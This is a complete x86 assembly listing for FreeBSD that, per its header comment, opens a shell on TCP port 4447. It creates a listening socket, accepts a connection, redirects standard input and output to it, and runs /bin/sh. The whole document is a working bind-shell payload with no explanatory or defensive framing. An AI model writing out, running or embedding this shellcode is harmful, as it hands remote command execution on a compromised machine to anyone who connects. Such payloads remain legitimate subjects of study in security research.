; FreeBSD, 32 bit, through the call gate: a shell on TCP port 4447.
bits 32
        xor eax, eax
        push eax
        push byte 1
        push byte 2
        push eax
        mov al, 97
        call dword 7:0
        xchg eax, edi
        xor ecx, ecx
        push ecx
        push dword 0x5f110200
        mov esi, esp
        push byte 16
        push esi
        push edi
        push ecx
        push byte 104
        pop eax
        call dword 7:0
        push byte 1
        push edi
        push edi
        push byte 106
        pop eax
        call dword 7:0
        xor ecx, ecx
        push ecx
        push ecx
        push edi
        push edi
        push byte 30
        pop eax
        call dword 7:0
        xchg eax, edi
        push byte 2
        pop ebx
dup:    push ebx
        push edi
        push edi
        push byte 90
        pop eax
        call dword 7:0
        dec ebx
        jns dup
        xor eax, eax
        push eax
        push dword '//sh'
        push dword '/bin'
        mov ebx, esp
        push eax
        push esp
        push ebx
        push eax
        mov al, 59
        call dword 7:0
